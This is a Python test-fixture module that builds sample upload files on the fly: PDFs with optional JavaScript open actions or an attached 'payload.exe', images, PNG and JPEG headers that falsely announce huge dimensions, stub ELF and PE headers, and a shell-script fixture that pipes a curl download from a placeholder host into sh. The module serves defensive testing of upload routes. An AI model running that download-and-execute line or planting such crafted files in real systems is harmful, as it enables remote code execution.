"""Real small files for tests of uploads, made on the fly (nothing binary is committed):
PDFs of N pages, images of a given size, headers of decompression bombs, executables.
For this library's tests and for services testing their upload routes."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import AsyncIterator

from PIL import Image
from pypdf import PdfWriter


def pdf(
    pages: int,
    *,
    javascript: str | None = None,
    attachment: bytes | None = None,
    password: str | None = None,
) -> bytes:
    """A real PDF of ``pages`` blank A4 pages; with document JavaScript, an embedded
    file, or encrypted with a password when asked."""
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)  # A4 in points
    if javascript is not None:
        writer.add_open_action(JavaScript(javascript))
    if attachment is not None:
        writer.add_attachment("payload.exe", attachment)
    if password is not None:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image(kind: str, width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 60)).save(out, format=kind.upper())
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A well-formed PNG whose header announces ``width`` x ``height`` (a decompression
    bomb's header) but whose few bytes of data would inflate to almost nothing."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) is rewritten to ``width`` x ``height``."""
    data = bytearray(image("jpeg", 16, 16))
    sof = data.index(b"\xff\xc0")
    # SOF0: marker, length (2), precision (1), height (2), width (2)
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


async def stream(
    data: bytes, chunk: int = 4096, pulled: list[int] | None = None
) -> AsyncIterator[bytes]:
    """``data`` in chunks; ``pulled`` counts the chunks the consumer asked for."""
    for start in range(0, len(data), chunk):
        if pulled is not None:
            pulled.append(start)
        yield data[start : start + chunk]
